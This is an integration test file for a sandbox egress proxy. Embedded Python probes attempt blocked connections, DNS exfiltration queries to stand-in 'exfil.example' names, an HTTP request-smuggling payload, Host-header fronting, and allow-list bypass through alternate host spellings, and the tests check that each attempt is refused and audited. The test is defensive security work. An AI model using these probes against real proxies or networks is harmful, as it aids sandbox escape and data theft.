import type Dockerode from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ignoreGone } from '../../src/engine/cleanup.js';
import { silentLogger } from '../../src/log.js';
import { loadManifest } from '../../src/manifest/index.js';
import type { AuditEntry } from '../../src/audit/audit-log.js';
import { Egress, type EgressDecision } from '../../src/sandbox/egress.js';
import type { HelperServer } from './helper-server.js';
import { networkPlugin, PROXY_HELPERS, startPlugin, Targets, waitFor } from './egress-support.js';
import { docker, instance, report, runCaptured, tempDir } from './support.js';

/**
 * The allow-list, end to end, with only test-made targets: an internal network holding two
 * servers, which the egress proxy joins. The plugin may reach one of them, through the
 * proxy, at most two connections at a time; nothing else. Revoking a host cuts the tunnels
 * open to it; DNS queries are answered by the proxy alone, and audited.
 */
describe('network allow-list through the egress proxy', () => {
  const targets = new Targets();
  let egress: Egress;
  const audit: Omit<AuditEntry, 'time'>[] = [];
  const decisions: EgressDecision[] = [];
  const allowed = `lm-${instance()}-allowed`;
  const other = `lm-${instance()}-other`;
  const ips = targets.ips;
  const servers = targets.servers;

  beforeAll(async () => {
    await targets.start('targets', [allowed, other]);
    egress = await Egress.start({ docker: await docker(), instance: instance(), log: silentLogger, configDir: tempDir('lm-egress-test-'), audit: (e) => audit.push(e), networks: [targets.network!.id] });
    egress.onDecision((x) => decisions.push(x));
  });

  afterAll(async () => {
    await egress?.close();
    await targets.remove();
  });

  function probePlugin(): string {
    return networkPlugin(
      'egress-probe',
      [`${allowed}:8080`],
      2,
      `import errno, json, os, socket, urllib.error, urllib.request, http.client
from urllib.parse import urlsplit
ALLOWED, OTHER = ${JSON.stringify(allowed)}, ${JSON.stringify(other)}
IPS = ${JSON.stringify(ips)}
proxy = urlsplit(os.environ["HTTP_PROXY"])
out = {"proxy": os.environ["HTTP_PROXY"], "interfaces": sorted(os.listdir("/sys/class/net"))}

def get(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except OSError as e:
        return type(e).__name__ + ": " + str(e)

def err(fn):
    try:
        fn()
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__) if isinstance(e.errno, int) and e.errno > 0 else type(e).__name__

def tunnel(host):
    c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)
    c.set_tunnel(host, 8080)
    c.request("GET", "/")
    return c.getresponse().status

out["allowed"] = get(f"http://{ALLOWED}:8080/")
out["other"] = get(f"http://{OTHER}:8080/")
out["allowedWrongPort"] = get(f"http://{ALLOWED}:8081/")
out["tunnelAllowed"] = tunnel(ALLOWED)
out["tunnelOther"] = err(lambda: tunnel(OTHER))
out["directAllowed"] = err(lambda: socket.create_connection((IPS[ALLOWED], 8080), timeout=3).close())
out["directOther"] = err(lambda: socket.create_connection((IPS[OTHER], 8080), timeout=3).close())
out["dnsOutside"] = err(lambda: socket.getaddrinfo("logomesh-egress-probe.example.com", 443))
out["dnsTarget"] = err(lambda: socket.getaddrinfo(ALLOWED, 8080))

held, statuses = [], []
for i in range(3):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    s.sendall(f"CONNECT {ALLOWED}:8080 HTTP/1.1\\r\\nHost: {ALLOWED}:8080\\r\\n\\r\\n".encode())
    statuses.append(int(s.recv(1024).split(b" ")[1]))
    held.append(s)
for s in held:
    s.close()
out["concurrent"] = statuses
print(json.dumps(out))
`,
    );
  }

  it('reaches the allowed host only, through the proxy, within its connection limit', async () => {
    const r = await runCaptured(probePlugin(), { egress });
    expect(r.exitCode, r.stderr).toBe(0);
    const p = report<Record<string, unknown>>(r.stdout);
    expect(p.interfaces).toEqual(['eth0', 'lo']);
    expect(p.allowed).toBe(200);
    expect(p.other).toBe(403);
    expect(p.allowedWrongPort).toBe(403);
    expect(p.tunnelAllowed).toBe(200);
    expect(p.tunnelOther).toBe('OSError'); // http.client: "Tunnel connection failed: 403"
    // The plugin's network is internal and holds only the proxy: no route to the targets.
    expect(p.directAllowed).not.toBe('ok');
    expect(p.directOther).not.toBe('ok');
    // No name resolution at all: not outside names, not container names.
    expect(p.dnsOutside).toBe('gaierror');
    expect(p.dnsTarget).toBe('gaierror');
    expect(p.concurrent).toEqual([200, 200, 429]);

    const mine = decisions.filter((x) => x.plugin === 'egress-probe');
    expect(mine).toContainEqual(expect.objectContaining({ host: allowed, port: 8080, result: 'allowed' }));
    expect(mine).toContainEqual(expect.objectContaining({ host: other, port: 8080, result: 'denied', reason: 'not-in-allow-list' }));
    expect(mine).toContainEqual(expect.objectContaining({ host: allowed, port: 8081, result: 'denied', reason: 'not-in-allow-list' }));
    // Counted from accept: the third connection is refused before it sends anything.
    expect(mine).toContainEqual(expect.objectContaining({ result: 'denied', reason: 'max-connections' }));
    expect(audit).toContainEqual(expect.objectContaining({ who: 'egress-probe', action: 'network', resource: `${other}:8080`, result: 'denied', code: 'LM_EGRESS_DENIED' }));
  });

  /**
   * A plugin that opens two CONNECT tunnels to the echo servers, then waits for the one to
   * `other` to end and reports when (its clock is the host's), checks the other tunnel still
   * echoes and that new tunnels follow the new list, and holds the first tunnel open.
   */
  const tunnelClient = () => `
import json, os, socket, sys, time
from urllib.parse import urlsplit
ALLOWED, OTHER = ${JSON.stringify(allowed)}, ${JSON.stringify(other)}
proxy = urlsplit(os.environ["HTTP_PROXY"])

def say(**kw):
    print(json.dumps(kw), flush=True)

def tunnel(host):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    s.sendall(f"CONNECT {host}:7000 HTTP/1.1\\r\\nHost: {host}:7000\\r\\n\\r\\n".encode())
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        chunk = s.recv(1024)
        if not chunk:
            break
        head += chunk
    return s, int(head.split(b" ")[1]) if head else 0

def echo(s, word):
    s.sendall(word)
    return s.recv(64).decode()

a, a_status = tunnel(ALLOWED)
o, o_status = tunnel(OTHER)
say(ready=True, statuses=[a_status, o_status], echoes=[echo(a, b"a1"), echo(o, b"o1")])
o.settimeout(30)
try:
    how = "eof" if o.recv(64) == b"" else "data"
except socket.timeout:
    how = "timeout"
except OSError:
    how = "reset"
say(closed=how, t=time.time() * 1000)
a.settimeout(5)
try:
    still = echo(a, b"a2")
except OSError as e:
    still = type(e).__name__
n, n_status = tunnel(OTHER)
n.close()
m, m_status = tunnel(ALLOWED)
m.close()
say(done=True, allowedAfter=still, newOther=n_status, newAllowed=m_status)
time.sleep(60)  # holds the tunnel to ALLOWED open; the test removes the container sooner
`;

  /** The echo server's count of connections open now, from its `open`/`closed` lines. */
  async function echoOpen(server: HelperServer): Promise<number> {
    const text = (await (await docker()).getContainer(server.container.getId()).logs({ stdout: true, stderr: false })).toString();
    return (text.match(/\bopen /g) ?? []).length - (text.match(/\bclosed /g) ?? []).length;
  }

  it('cuts the open tunnels to a revoked host at once, and keeps the others; detaching cuts the rest', async () => {
    const d = await docker();
    const key = 'cut-probe';
    const loaded = loadManifest(networkPlugin(key, [`${allowed}:7000`, `${other}:7000`], 4, tunnelClient()));
    const attachment = await egress.attach(key, loaded.manifest);
    let client: Dockerode.Container | undefined;
    let detached = false;
    try {
      const started = await startPlugin(loaded, attachment);
      client = started.container;
      const ready = await waitFor('tunnels open', 20_000, () => started.lines.find((l) => l.ready));
      expect(ready).toMatchObject({ statuses: [200, 200], echoes: ['a1', 'o1'] });

      const t0 = Date.now();
      expect(await egress.revokeHost(key, `${other}:7000`)).toBe(true);
      const t1 = Date.now();
      // The cut is reported before revokeHost resolves: it waits for the proxy's reload.
      expect(decisions).toContainEqual(expect.objectContaining({ plugin: key, host: other, port: 7000, method: 'CONNECT', result: 'cut', reason: 'revoked' }));
      expect(audit).toContainEqual({ who: key, action: 'network', resource: `${other}:7000`, result: 'cut', reason: 'revoked', code: 'LM_EGRESS_DENIED' });
      const closed = await waitFor('the revoked tunnel ends', 5_000, () => started.lines.find((l) => l.closed));
      const tEof = closed.t as number;
      console.log(`egress cut: revokeHost took ${t1 - t0} ms; the plugin saw ${String(closed.closed)} ${(tEof - t0).toFixed(1)} ms after the call, ${(tEof - t1).toFixed(1)} ms after it resolved`);
      expect(closed.closed).toMatch(/^(eof|reset)$/);
      expect(tEof - t1).toBeLessThan(2_000);

      const done = await waitFor('the client checks', 20_000, () => started.lines.find((l) => l.done));
      expect(done).toMatchObject({ allowedAfter: 'a2', newOther: 403, newAllowed: 200 });
      const [allowedServer, otherServer] = servers as [HelperServer, HelperServer];
      expect(await echoOpen(otherServer)).toBe(0);
      expect(await echoOpen(allowedServer)).toBe(1);

      // A plugin gone without the proxy noticing (here: its network unplugged under it):
      // detaching still ends its connection upstream.
      await d.getNetwork(attachment.network).disconnect({ Container: client.id, Force: true });
      detached = true;
      await egress.detach(key);
      expect(decisions).toContainEqual(expect.objectContaining({ plugin: key, host: allowed, port: 7000, result: 'cut', reason: 'detached' }));
      expect(audit).toContainEqual({ who: key, action: 'network', resource: `${allowed}:7000`, result: 'cut', reason: 'detached' });
      await waitFor('the upstream side of the tunnel ends', 5_000, async () => ((await echoOpen(allowedServer)) === 0 ? true : undefined));
    } finally {
      if (client) await ignoreGone(client.remove({ force: true }));
      if (!detached) await egress.detach(key);
    }
  });

  it('answers DNS itself, NXDOMAIN for every name, and audits each query', async () => {
    const main = `import json, os, socket, struct, subprocess, sys, time
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"]).hostname
out = {}

def lookup(name):
    t = time.monotonic()
    try:
        socket.getaddrinfo(name, 443)
        res = "resolved"
    except socket.gaierror as e:
        res = {socket.EAI_NONAME: "EAI_NONAME", socket.EAI_AGAIN: "EAI_AGAIN"}.get(e.errno, str(e.errno))
    return [res, round((time.monotonic() - t) * 1000)]

out["udp"] = lookup("secret-data.exfil.example")
# Over TCP: glibc asks the engine's resolver over TCP, which asks the proxy over TCP.
tcp = subprocess.run([sys.executable, "-c", "import socket\\ntry:\\n    socket.getaddrinfo('tcp-data.exfil.example', 443)\\n    print('resolved')\\nexcept socket.gaierror as e:\\n    print(e.errno)"],
                     env={**os.environ, "RES_OPTIONS": "use-vc"}, capture_output=True, text=True, timeout=20)
out["tcp"] = tcp.stdout.strip()
# Straight to the proxy's port 53, past the engine's resolver: a TXT query.
q = struct.pack("!HHHHHH", 0x4c4d, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in [b"direct", b"exfil", b"example"]) + b"\\0" + struct.pack("!HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, (proxy, 53))
r = s.recv(512)
ident, flags, qd, an, ns, ar = struct.unpack("!HHHHHH", r[:12])
out["direct"] = {"id": ident, "rcode": flags & 15, "qr": flags >> 15, "answers": an + ns + ar}
print(json.dumps(out))
`;
    const r = await runCaptured(networkPlugin('dns-probe', [`${allowed}:8080`], 2, main), { egress });
    expect(r.exitCode, r.stderr).toBe(0);
    const p = report<Record<string, unknown>>(r.stdout);
    // NXDOMAIN from the proxy, at once: not a time-out waiting for a server that is not there.
    expect(p.udp).toEqual(['EAI_NONAME', expect.any(Number)]);
    expect((p.udp as [string, number])[1]).toBeLessThan(2_000);
    expect(p.tcp).toBe(String(-2)); // EAI_NONAME
    expect(p.direct).toEqual({ id: 0x4c4d, rcode: 3, qr: 1, answers: 0 });

    const mine = decisions.filter((x) => x.plugin === 'dns-probe' && x.method === 'DNS');
    for (const [name, qtype] of [
      ['secret-data.exfil.example', 'A'],
      ['tcp-data.exfil.example', 'A'],
      ['direct.exfil.example', 'TXT'],
    ]) {
      expect(mine).toContainEqual(expect.objectContaining({ host: name, qtype, result: 'denied', reason: 'no-dns' }));
    }
    expect(mine).toContainEqual(expect.objectContaining({ host: 'tcp-data.exfil.example', transport: 'tcp' }));
    expect(audit).toContainEqual({ who: 'dns-probe', action: 'dns', resource: 'secret-data.exfil.example', result: 'denied', reason: 'no-dns (A)', code: 'LM_EGRESS_DENIED' });
  });

  it('revoking one spelling of a host cuts every tunnel to it, in whatever spelling it was opened, and refuses every spelling', async () => {
    const key = 'spellings';
    const upper = allowed.toUpperCase();
    // The case: the manifest lists the host in two spellings.
    const loaded = loadManifest(networkPlugin(key, [`${allowed}:7000`, `${upper}:7000`, `${other}:7000`], 8, `${PROXY_HELPERS}
ALLOWED, OTHER = ${JSON.stringify(allowed)}, ${JSON.stringify(other)}
SPELLINGS = [(ALLOWED, "7000"), (ALLOWED.upper(), "7000"), (ALLOWED + ".", "7000"), (ALLOWED.upper() + ".", "07000")]

def echo(s, word):
    s.sendall(word)
    return s.recv(64).decode()

held = [tunnel(h, p) for h, p in SPELLINGS]
o, o_status = tunnel(OTHER, 7000)
say(ready=True, statuses=[st for _, st in held] + [o_status], echoes=[echo(s, b"x") for s, _ in held])
ends = []
for s, _ in held:
    s.settimeout(30)
    try:
        ends.append("eof" if s.recv(64) == b"" else "data")
    except socket.timeout:
        ends.append("timeout")
    except OSError:
        ends.append("reset")
after = []
for h, p in SPELLINGS:
    s, st = tunnel(h, p)
    s.close()
    after.append(st)
say(done=True, ends=ends, after=after, otherStill=echo(o, b"o2"))
time.sleep(60)  # the test removes the container sooner
`));
    const attachment = await egress.attach(key, loaded.manifest);
    let client: Dockerode.Container | undefined;
    try {
      const started = await startPlugin(loaded, attachment);
      client = started.container;
      const ready = await waitFor('tunnels open', 20_000, () => started.lines.find((l) => l.ready));
      expect(ready).toMatchObject({ statuses: [200, 200, 200, 200, 200], echoes: ['x', 'x', 'x', 'x'] });

      // Revoked in yet another spelling.
      expect(await egress.revokeHost(key, ` ${upper}.:07000`)).toBe(true);
      const cuts = decisions.filter((x) => x.plugin === key && x.result === 'cut');
      expect(cuts).toHaveLength(4);
      for (const c of cuts) expect(c).toMatchObject({ host: allowed, port: 7000, reason: 'revoked' });
      const done = await waitFor('the client checks', 30_000, () => started.lines.find((l) => l.done));
      expect(done.ends).toEqual(Array(4).fill(expect.stringMatching(/^(eof|reset)$/)));
      expect(done.after).toEqual([403, 403, 403, 403]);
      expect(done.otherStill).toBe('o2');
      expect(decisions.filter((x) => x.plugin === key && x.reason === 'not-in-allow-list')).toHaveLength(4);
      // Nothing left to revoke under any spelling.
      expect(await egress.revokeHost(key, `${allowed}:7000`)).toBe(false);
    } finally {
      if (client) await ignoreGone(client.remove({ force: true }));
      await egress.detach(key);
    }
  });

  it("checks the Host header against the request's host (no fronting), and forwards chunked bodies with their framing", async () => {
    const main = `${PROXY_HELPERS}
ALLOWED, OTHER = ${JSON.stringify(allowed)}, ${JSON.stringify(other)}
def status(text):
    return int(text.split(" ")[1]) if text.startswith("HTTP/") else text
out = {}
out["fronted"] = status(exchange(f"GET http://{ALLOWED}:8080/ HTTP/1.1\\r\\nHost: {OTHER}:8080\\r\\n\\r\\n".encode()))
out["otherPort"] = status(exchange(f"GET http://{ALLOWED}:8080/ HTTP/1.1\\r\\nHost: {ALLOWED}:9999\\r\\n\\r\\n".encode()))
out["twoHosts"] = status(exchange(f"GET http://{ALLOWED}:8080/ HTTP/1.1\\r\\nHost: {ALLOWED}:8080\\r\\nHost: {OTHER}:8080\\r\\n\\r\\n".encode()))
out["sameHost"] = status(exchange(f"GET http://{ALLOWED}:8080/ HTTP/1.1\\r\\nHost: {ALLOWED.upper()}:8080\\r\\n\\r\\n".encode()))
out["noHost"] = status(exchange(f"GET http://{ALLOWED}:8080/ HTTP/1.1\\r\\n\\r\\n".encode()))
# The echo server on 7000 sends back exactly what the proxy sent it.
body = "5\\r\\nhello\\r\\n6\\r\\n world\\r\\n0\\r\\n\\r\\n"
out["chunked"] = exchange(f"POST http://{ALLOWED}:7000/up HTTP/1.1\\r\\nHost: {ALLOWED}:7000\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{body}".encode(), until=b"0\\r\\n\\r\\n")
out["gzip"] = status(exchange(f"POST http://{ALLOWED}:7000/up HTTP/1.1\\r\\nTransfer-Encoding: gzip, chunked\\r\\n\\r\\n".encode()))
out["smuggle"] = status(exchange(f"POST http://{ALLOWED}:7000/up HTTP/1.1\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n".encode()))
out["bareLf"] = status(exchange(f"GET http://{ALLOWED}:8080/ HTTP/1.1\\nHost: {ALLOWED}:8080\\n\\n".encode()))
print(json.dumps(out))
`;
    const r = await runCaptured(networkPlugin('fronting', [`${allowed}:8080`, `${allowed}:7000`], 4, main), { egress });
    expect(r.exitCode, r.stderr).toBe(0);
    const p = report<Record<string, unknown>>(r.stdout);
    expect(p).toMatchObject({ fronted: 403, otherPort: 403, twoHosts: 400, sameHost: 200, noHost: 200, gzip: 501, smuggle: 400, bareLf: 400 });
    expect(p.chunked).toBe(`POST /up HTTP/1.1\r\nHost: ${allowed}:7000\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n`);
    expect(audit).toContainEqual({ who: 'fronting', action: 'network', resource: `${allowed}:8080`, result: 'denied', reason: 'host-mismatch', code: 'LM_EGRESS_DENIED' });
    const mine = decisions.filter((x) => x.plugin === 'fronting').map((x) => x.reason);
    expect(mine).toEqual(expect.arrayContaining(['host-mismatch', 'bad-request', 'unsupported-transfer-encoding', 'bare-lf']));
  });

  it('removes the plugin network and its proxy after the run', async () => {
    const d = await docker();
    const filters = JSON.stringify({ label: [`io.logomesh.instance=${instance()}`, 'io.logomesh.role=egress', 'io.logomesh.plugin=egress-probe'] });
    expect(await d.listNetworks({ filters })).toEqual([]);
    // Its proxy too.
    expect(await d.listContainers({ all: true, filters })).toEqual([]);
  });
});
